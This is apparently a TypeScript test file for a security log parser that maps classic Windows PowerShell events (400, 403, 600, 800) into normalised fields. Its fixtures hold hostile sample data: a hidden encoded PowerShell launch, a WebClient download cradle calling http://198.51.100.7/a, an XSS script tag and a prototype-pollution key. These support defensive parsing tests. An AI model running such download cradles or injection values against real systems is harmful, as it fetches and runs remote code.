import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { eventOf, eventsOf, line, read, selected } from '../detect/mapping/helpers.ts';

/** The classic `Windows PowerShell` log (400/403/600/800): on by default, read from its inserts or its message. */

const HOST_APP = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -NoP -W Hidden -enc SQBFAFgA';

function details(pairs: ReadonlyArray<[string, string]>): string {
  return pairs.map(([key, value]) => `\t${key}=${value}`).join('\r\n');
}

const ENGINE = (app: string, engineVersion: string): string =>
  `\tNewEngineState=Available\r\n\tPreviousEngineState=None\r\n\r\n\tSequenceNumber=13\r\n\r\n${details([
    ['HostName', 'ConsoleHost'],
    ['HostVersion', '5.1.19041.1682'],
    ['HostId', '5b7a2c0e-1f3d-4c55-9a63-0c2d7f1e9b41'],
    ['HostApplication', app],
    ['EngineVersion', engineVersion],
    ['RunspaceId', '9e1f6b0a-3c7d-4e2a-8b5f-2d4c6a8e0f13'],
    ['PipelineId', ''],
    ['CommandName', ''],
    ['CommandType', ''],
    ['ScriptName', ''],
    ['CommandPath', ''],
    ['CommandLine', ''],
  ])}`;

const escapeXml = (text: string): string => text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');

/** As the event log writes it: unnamed `<Data>` inserts. */
function classicXml(id: number, second: number, inserts: readonly string[]): string {
  const data = inserts.map((insert) => `<Data>${escapeXml(insert)}</Data>`).join('');
  return `<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="PowerShell"/><EventID Qualifiers="0">${String(id)}</EventID><Level>4</Level><Task>4</Task><Keywords>0x80000000000000</Keywords><TimeCreated SystemTime="2024-11-23T10:00:${String(second).padStart(2, '0')}.000000Z"/><EventRecordID>${String(second)}</EventRecordID><Channel>Windows PowerShell</Channel><Computer>WS01.corp.local</Computer><Security/></System><EventData>${data}</EventData></Event>`;
}

void describe('classic Windows PowerShell log', () => {
  void it('reads the engine, provider and pipeline events from their inserts (EVTX, XML)', async () => {
    const pipelineContext = `\tDetailSequence=1\r\n\tDetailTotal=1\r\n\r\n\tSequenceNumber=27\r\n\r\n\tUserId=CORP\\alice\r\n${details([
      ['HostName', 'ConsoleHost'],
      ['HostVersion', '5.1.19041.1682'],
      ['HostApplication', HOST_APP],
      ['EngineVersion', '5.1.19041.1682'],
      ['PipelineId', '3'],
      ['ScriptName', ''],
      ['CommandLine', '$c = New-Object Net.WebClient'],
    ])}\r\n$c.DownloadString('http://198.51.100.7/a')`;
    const xml = [
      classicXml(400, 1, ['Available', 'None', ENGINE(HOST_APP, '5.1.19041.1682')]),
      classicXml(600, 2, ['Registry', 'Started', `\tProviderName=Registry\r\n\tNewProviderState=Started\r\n\r\n\tSequenceNumber=1\r\n\r\n${details([['HostName', 'ConsoleHost'], ['HostApplication', HOST_APP]])}`]),
      // Lines in the command (first insert) and in parameter values (last) that look like the context are not read.
      classicXml(800, 3, ['$c = New-Object Net.WebClient\r\n\tHostApplication=C:\\Windows\\explorer.exe\r\n\tUserId=CORP\\nobody', pipelineContext, 'CommandInvocation(New-Object): "New-Object"\r\nParameterBinding(New-Object): name="TypeName"; value="x\r\n\tHostApplication=notepad.exe"']),
      classicXml(403, 4, ['Stopped', 'Available', ENGINE(HOST_APP, '5.1.19041.1682').replace('NewEngineState=Available', 'NewEngineState=Stopped').replace('PreviousEngineState=None', 'PreviousEngineState=Available')]),
    ].join('\n');
    const events = await eventsOf('powershell.xml', `${xml}\n`);
    assert.deepEqual(
      events.map((e) => [e.event.code, e.event.dataset, e.event.action, e.event.type, e.process?.command_line, e.process?.executable, e.process?.name]),
      [
        ['400', 'windows.powershell', 'powershell-engine-started', ['start'], HOST_APP, 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell.exe'],
        ['600', 'windows.powershell', 'powershell-provider-started', ['info'], HOST_APP, 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell.exe'],
        ['800', 'windows.powershell', 'powershell-pipeline-execution', ['info'], HOST_APP, 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell.exe'],
        ['403', 'windows.powershell', 'powershell-engine-stopped', ['end'], HOST_APP, 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell.exe'],
      ],
    );
    const [engine, provider, pipeline, stopped] = events;
    assert.deepEqual(
      [engine?.labels?.engine_version, engine?.labels?.host_version, engine?.labels?.host_name, engine?.labels?.new_engine_state, engine?.labels?.previous_engine_state, engine?.labels?.['command']],
      ['5.1.19041.1682', '5.1.19041.1682', 'ConsoleHost', 'Available', 'None', undefined],
    );
    assert.deepEqual([provider?.labels?.provider_name, provider?.labels?.new_provider_state], ['Registry', 'Started']);
    assert.deepEqual([stopped?.labels?.new_engine_state, stopped?.labels?.previous_engine_state], ['Stopped', 'Available']);
    // 800: the user that ran the pipeline, and its command over two lines.
    assert.deepEqual([pipeline?.user?.name, pipeline?.user?.domain, pipeline?.labels?.pipeline_id], ['alice', 'CORP', '3']);
    assert.equal(pipeline?.labels?.['command'], "$c = New-Object Net.WebClient\n$c.DownloadString('http://198.51.100.7/a')");
    // The rules read the inserts as `Data`.
    const data = read(engine!, { product: 'windows', category: 'ps_classic_start' }, 'Data');
    assert.ok(Array.isArray(data) && data.some((value) => typeof value === 'string' && value.includes('HostApplication=C:\\Windows')));
  });

  void it('reads the rendered message when the export keeps nothing else (NXLog), and the rules see it as Data', async () => {
    const event = await eventOf(
      'nxlog.json',
      line({
        EventID: 400,
        Channel: 'Windows PowerShell',
        SourceName: 'PowerShell',
        Hostname: 'WS02.corp.local',
        EventTime: '2024-11-23 10:05:00',
        Message: `Engine state is changed from None to Available. \r\n\r\nDetails: \r\n${ENGINE('powershell.exe -version 2 -nop', '2.0')}`,
      }),
    );
    assert.deepEqual([event.event.action, event.process?.command_line, event.process?.executable, event.process?.name, event.labels?.engine_version], ['powershell-engine-started', 'powershell.exe -version 2 -nop', undefined, 'powershell.exe', '2.0']);
    assert.equal(event.winlog?.event_data?.['param1'], undefined);
    const logsource = { product: 'windows', category: 'ps_classic_start' };
    assert.ok(selected(event, logsource));
    const data = read(event, logsource, 'Data');
    assert.ok(Array.isArray(data) && data.length === 1 && typeof data[0] === 'string' && data[0].includes('EngineVersion=2.0'));
  });

  void it('keeps hostile values as text and takes only PowerShell’s own keys', async () => {
    const hostile = '<script>alert(1)</script> -enc AAAA\u0000';
    const event = await eventOf(
      'hostile.json',
      line({
        EventID: 800,
        Channel: 'Windows PowerShell',
        SourceName: 'PowerShell',
        Hostname: 'WS03',
        EventTime: '2024-11-23 10:06:00',
        Message: `Pipeline execution details for command line: x. \r\n\r\nContext Information: \r\n\tUserId=EVIL\\<b>bob</b>\r\n\tHostApplication=${hostile}\r\n\tEvilKey=1\r\n\t__proto__=polluted\r\n\tCommandLine=x`,
      }),
    );
    assert.ok(event.process?.command_line?.startsWith('<script>alert(1)</script> -enc AAAA'));
    assert.deepEqual([event.user?.domain, event.user?.name], ['EVIL', '<b>bob</b>']);
    assert.equal(event.labels?.['EvilKey'], undefined);
    assert.equal(Object.keys(event.labels ?? {}).some((key) => key.includes('proto') || key === 'EvilKey'), false);
  });
});
